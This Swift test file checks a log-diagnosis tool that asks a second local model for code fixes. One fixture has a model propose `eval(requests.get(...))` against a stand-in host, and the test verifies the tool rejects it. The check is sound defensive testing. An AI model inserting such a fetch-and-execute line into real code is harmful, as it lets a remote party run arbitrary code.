import ApplianceTestSupport
import Foundation
import Testing

@Suite("A model with the role fix adds a change to what another found", .timeLimit(.minutes(5)))
struct FixRoleTests {
    private static let models = """

        [models.fix]
        name = "fix-model"
        num_ctx = 4096
        """

    private static func change(_ modified: String) -> String {
        #"{"file":"billing/invoice.py","original":"    currency = order[\"currency\"]","modified":"\#(modified)","description":"Takes KRW where an order has none."}"#
    }

    /// Answers as the model that is asked; tells both as installed.
    ///
    /// - Parameter change: nil for a server that fails when it is asked for one.
    private static func server(_ change: String?) throws -> ScriptedServer {
        try ScriptedServer(answering: [
            .respond { bytes in
                let request = PlainRequest(bytes)
                guard request.path == "/api/chat" else {
                    let models = ["test-model", "fix-model"].map { name in
                        #"{"name":"\#(name)","model":"\#(name)","size":1,"digest":"\#(OllamaReplies.digest)","details":{}}"#
                    }
                    return OllamaReplies.response(
                        "200 OK", "application/json", #"{"models":[\#(models.joined(separator: ","))]}"#)
                }
                guard request.body.contains(#""model":"fix-model""#) else {
                    return OllamaReplies.chat(OllamaReplies.goodAnswer)
                }
                return change.map { OllamaReplies.chat($0) }
                    ?? OllamaReplies.response(
                        "500 Internal Server Error", "application/json", #"{"error":"no memory"}"#)
            }
        ])
    }

    @Test("its change is in the report, told to be its own; the second night takes both from the cache")
    func adds() async throws {
        let server = try Self.server(Self.change(#"    currency = order.get(\"currency\", \"KRW\")"#))
        defer { server.stop() }
        let site = try SiteFixture(endpoint: server.url, modelExtra: "num_ctx = 4096" + Self.models)
        defer { site.remove() }
        try site.directory.write("logs/worker.log", SiteFixture.traceback())
        let first = try await site.run("batch", "-v")
        #expect(first.status == 0, "\(first.errors)")
        #expect(first.errors.contains("asked fix-model: 900 + 60 tokens"))
        let group = try #require((try await site.report()["groups"] as? [[String: Any]])?.first)
        let diagnosis = try #require(group["diagnosis"] as? [String: Any])
        let fix = try #require(diagnosis["fix"] as? [String: Any])
        #expect(fix["modified"] as? String == #"    currency = order.get("currency", "KRW")"#)
        #expect((diagnosis["caveats"] as? [String])?.contains("the change was proposed by fix-model") == true)
        let asked = server.requests.count { PlainRequest($0).path == "/api/chat" }
        #expect(asked == 2)
        try site.directory.write(
            "logs/worker.log", SiteFixture.traceback() + SiteFixture.traceback(at: "2026-11-21 05:20:00,000"))
        let second = try await site.run("batch")
        #expect(second.errors.contains("1 from cache"), "\(second.errors)")
        #expect(server.requests.count { PlainRequest($0).path == "/api/chat" } == asked)
    }

    @Test("what it proposes is held against the code that it was shown")
    func held() async throws {
        let server = try Self.server(Self.change(#"    currency = eval(requests.get(\"https://x.example\").text)"#))
        defer { server.stop() }
        let site = try SiteFixture(endpoint: server.url, modelExtra: "num_ctx = 4096" + Self.models)
        defer { site.remove() }
        try site.directory.write("logs/worker.log", SiteFixture.traceback())
        #expect(try await site.run("batch").status == 0)
        let page = try site.directory.read("home/reports/2026-11-21.md")
        #expect(page.contains("fix-model was asked for a change: the proposed fix added a link or a command"))
        #expect(!page.contains("x.example"))
    }

    @Test("where it gives no answer the diagnosis stands, and a later night asks again")
    func away() async throws {
        let broken = try Self.server(nil)
        defer { broken.stop() }
        let site = try SiteFixture(endpoint: broken.url, modelExtra: "num_ctx = 4096" + Self.models)
        defer { site.remove() }
        try site.directory.write("logs/worker.log", SiteFixture.traceback())
        #expect(try await site.run("batch").status == 0)
        let first = try site.directory.read("home/reports/2026-11-21.md")
        #expect(first.contains("which orders without a currency do not have"))
        #expect(first.contains("fix-model was asked for a change: "))
        let whole = try Self.server(Self.change(#"    currency = order.get(\"currency\", \"KRW\")"#))
        defer { whole.stop() }
        let models = try site.directory.read("home/models.conf")
        try site.directory.write("home/models.conf", models.replacing(broken.url, with: whole.url))
        try site.directory.write(
            "logs/worker.log", SiteFixture.traceback() + SiteFixture.traceback(at: "2026-11-21 05:20:00,000"))
        #expect(try await site.run("batch").status == 0)
        #expect(try site.directory.read("home/reports/2026-11-21.md").contains("the change was proposed by fix-model"))
    }
}
